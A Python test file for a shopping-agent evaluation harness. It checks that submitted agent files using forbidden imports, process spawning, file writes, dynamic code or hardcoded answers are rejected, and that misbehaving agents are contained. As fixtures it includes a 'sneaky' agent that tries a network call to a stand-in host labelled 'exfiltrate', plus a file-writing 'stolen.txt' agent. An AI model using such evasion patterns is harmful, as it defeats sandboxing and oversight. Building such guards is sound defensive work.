"""`shopdistill arena run-agent`: static checks naming rule and line, agent files run in a guarded child process, and
crashing, hanging, garbage-printing or network-using agents turned into FAILED / TIMED_OUT envelopes while the run goes on."""
import json
import textwrap
from pathlib import Path

import pytest

from shopdistill.catalog import Catalog, generate_catalog
from shopdistill.config import repo_root
from shopdistill.envelope import envelope_problems
from shopdistill.run_agent import ProblemIndex, static_check, run_agent_file
from shopdistill.search import SearchEngine
from shopdistill.tasks import synthesize_tasks

REFERENCE = repo_root() / "examples" / "reference_agent.py"
PROBLEMS = [{"query": "Find a stainless steel water bottle with a bamboo lid under 500 pesos, with free shipping."},
            {"query": "I want a ceramic coffee mug in navy blue that holds 350 ml, from an official store."}]


@pytest.fixture(scope="module")
def sandbox():
    cat = Catalog.from_records(generate_catalog(2000, seed=0))
    tasks = synthesize_tasks(cat, {"product": 3, "shop": 2, "voucher": 2}, seed=5)
    return SearchEngine.build(cat), tasks


def _file(tmp_path, name, body) -> Path:
    p = tmp_path / f"{name}.py"
    p.write_text(textwrap.dedent(body))
    return p


# ---- static checks: one file per rule, the rule and the line named --------------------------------------
BAD = {
    "syntax": ("def agent_main(problem)\n    return []\n", 1),
    "missing_agent_main": ("def main(problem):\n    return []\n", 1),
    "hardcoded_product_id": ("def agent_main(problem):\n    best = 1000039150\n    return []\n", 2),
    "verbatim_problem_phrase": ("def agent_main(problem):\n    if 'water bottle with a bamboo lid under 500' in problem['query']:\n        return []\n    return []\n", 2),
    "problem_term_dictionary": ("def agent_main(problem):\n    return []\n\nLOOKUP = {'stainless': 1, 'bottle': 2, 'bamboo': 3, 'ceramic': 4,\n"
                                "          'coffee': 5, 'navy': 6, 'holds': 7, 'steel': 8}\n", 4),
    "dynamic_code": ("def agent_main(problem):\n    return __import__('json').loads('[]')\n", 2),
    "forbidden_import": ("import json\nfrom urllib.request import urlopen\ndef agent_main(problem):\n    return []\n", 2),
    "process_spawn": ("import os\ndef agent_main(problem):\n    os.popen('ls')\n    return []\n", 3),
    "file_write": ("from pathlib import Path\ndef agent_main(problem):\n    Path('cache.json').write_text('{}')\n    return []\n", 3),
}


@pytest.mark.parametrize("rule", sorted(BAD))
def test_each_static_rule_rejects_with_rule_and_line(rule):
    src, line = BAD[rule]
    found = static_check(src, PROBLEMS, "agent.py")
    hits = [r for r in found if r.rule == rule]
    assert hits, found
    assert hits[0].line == line
    assert str(hits[0]).startswith(f"{rule} (line {line}): ")


@pytest.mark.parametrize("src", ["import subprocess\ndef agent_main(p):\n    return []\n",
                                 "import socket\ndef agent_main(p):\n    return []\n",
                                 "from shopdistill import server\ndef agent_main(p):\n    return []\n",
                                 "def agent_main(p):\n    open('x', 'a')\n    return []\n",
                                 "def agent_main(p):\n    exec('x = 1')\n    return []\n"])
def test_more_forbidden_things(src):
    assert static_check(src, PROBLEMS)


def test_clean_files_pass():
    assert static_check(REFERENCE.read_text(), PROBLEMS) == []
    ok = "import json, re\nfrom shopdistill.tool_client import current_client\ndef agent_main(problem):\n    return []\n"
    assert static_check(ok, PROBLEMS) == []


def test_template_phrases_shared_by_many_problems_are_not_copies():
    many = [{"query": f"Find a shop that offers these items: item {i} and thing {i * 7}."} for i in range(40)]
    idx = ProblemIndex(many)
    assert idx.copied_phrase("Find a shop that offers these items:") is None  # template wording, in every problem
    assert idx.copied_phrase("these items: item 17 and thing 119") is not None  # one problem's own words


# ---- running files -------------------------------------------------------------------------------
def test_reference_agent_file_runs(sandbox):
    engine, tasks = sandbox
    res = run_agent_file(REFERENCE, tasks[:3], engine, timeout_problem=60, timeout_suite=300)
    assert res["accepted"] and [r["status"] for r in res["rows"]] == ["SUCCESS"] * 3
    for e in res["envelopes"]:
        assert envelope_problems(e) == []
        assert any(p["kind"] == "search" for s in e["dialogue"] for p in s["extra_info"]["proxy_calls"])
    assert 0 <= res["score"]["final_score"] <= 1


def test_misbehaving_agents_become_envelopes_and_the_run_goes_on(sandbox, tmp_path):
    engine, tasks = sandbox
    ids = [t["id"] for t in tasks[:5]]
    f = _file(tmp_path, "moody", f"""
        import sys, time
        from shopdistill.tool_client import current_client, episode_env
        from shopdistill.env import call_tool
        MOODS = {dict(zip(ids, ["crash", "sleep", "garbage", "exit", "work"]))!r}

        def agent_main(problem):
            mood = MOODS[problem["problem_id"]]
            if mood == "crash":
                raise RuntimeError("the agent fell over")
            if mood == "sleep":
                time.sleep(60)
            if mood == "garbage":
                sys.stdout.write("\\x00\\xff garbage " * 50000)
                return "not a list of steps"
            if mood == "exit":
                sys.stdout.flush()
                import os
                os._exit(3)
            env = episode_env()
            client = current_client()
            obs = call_tool(env, "find_product", {{"q": "shirt"}})
            client.record_step(think="searching", tool_calls=[{{"name": "find_product", "parameters": {{"q": "shirt"}}, "result": obs}}])
            client.chat([{{"role": "user", "content": "Which shirt is best for the office?"}}])
            client.record_step(think="done", tool_calls=[{{"name": "terminate", "parameters": {{"status": "failure"}}, "result": "ok"}}])
            return client.steps
    """)
    res = run_agent_file(f, tasks[:5], engine, timeout_problem=2, timeout_suite=60)
    assert res["accepted"], res["rejections"]
    got = [(r["status"], r["error"]) for r in res["rows"]]
    assert got == [("FAILED", "RuntimeError"), ("TIMED_OUT", "TimeoutError"), ("FAILED", "InvalidOutput"), ("FAILED", "NoResult"),
                   ("SUCCESS", None)]
    assert res["rows"][2]["printed_bytes"] > 100_000  # it printed, the harness kept only a little of it
    for e in res["envelopes"]: assert envelope_problems(e) == []
    last = res["envelopes"][-1]
    assert last["inference_total"] == 1
    assert [len(s["extra_info"]["proxy_calls"]) for s in last["dialogue"]] == [1, 1]  # the search, then the model call


def test_suite_limit_times_out_the_rest(sandbox, tmp_path):
    engine, tasks = sandbox
    f = _file(tmp_path, "slow", "import time\ndef agent_main(problem):\n    time.sleep(10)\n    return []\n")
    res = run_agent_file(f, tasks[:3], engine, timeout_problem=1.5, timeout_suite=2.0)
    assert [r["status"] for r in res["rows"]] == ["TIMED_OUT"] * 3
    assert [r["error"] for r in res["rows"]][-1] == "SuiteTimeout"


def test_runtime_guard_blocks_what_the_static_checks_miss(sandbox, tmp_path):
    engine, tasks = sandbox
    f = _file(tmp_path, "sneaky", """
        from shopdistill.tool_client import HttpToolClient
        def agent_main(problem):
            mode = "w" if problem["problem_id"].startswith("product") else "r"
            if mode == "w":
                HttpToolClient("http://example.com").find_product("exfiltrate")
            return []
    """)
    g = _file(tmp_path, "writer", """
        def agent_main(problem):
            m = "w"
            open("stolen.txt", m)
            return []
    """)
    net = run_agent_file(f, tasks[:1], engine, timeout_problem=20)
    assert net["rows"][0]["status"] == "FAILED"  # urllib wraps the guard's PermissionError in a URLError
    assert "network access refused" in net["envelopes"][0]["error"]["message"]
    wr = run_agent_file(g, tasks[:1], engine, timeout_problem=20)
    assert wr["rows"][0]["error"] == "PermissionError" and not (tmp_path / "stolen.txt").exists()


def test_rejected_file_never_runs(sandbox, tmp_path):
    engine, tasks = sandbox
    f = _file(tmp_path, "cheater", "import requests\ndef agent_main(problem):\n    return []\n")
    res = run_agent_file(f, tasks[:2], engine)
    assert not res["accepted"] and res["envelopes"] == [] and res["rejections"][0].rule == "forbidden_import"


def test_cli_check_and_run(tmp_path, monkeypatch, capsys):
    from shopdistill.cli import main
    bad = _file(tmp_path, "bad", "import socket\ndef agent_main(problem):\n    return []\n")
    assert main(["arena", "check", str(bad)]) == 1
    assert "forbidden_import (line 1)" in capsys.readouterr().out
    assert main(["arena", "check", str(REFERENCE)]) == 0
    prof = tmp_path / "cli.yaml"
    prof.write_text("catalog: {n_products: 2000, seed: 0}\ntasks: {n: {product: 3, shop: 3, voucher: 3}, seed: 0}\n")
    monkeypatch.setenv("SHOPDISTILL_RUNS", str(tmp_path / "runs"))
    out = tmp_path / "out"
    assert main(["arena", "run-agent", str(REFERENCE), "--profile", str(prof), "--n", "1", "--out", str(out), "--timeout-problem", "60"]) == 0
    lines = (out / "output.jsonl").read_text().splitlines()
    assert len(lines) == 3 and all(envelope_problems(json.loads(x)) == [] for x in lines)
    assert main(["arena", "run-agent", str(bad), "--profile", str(prof)]) == 1
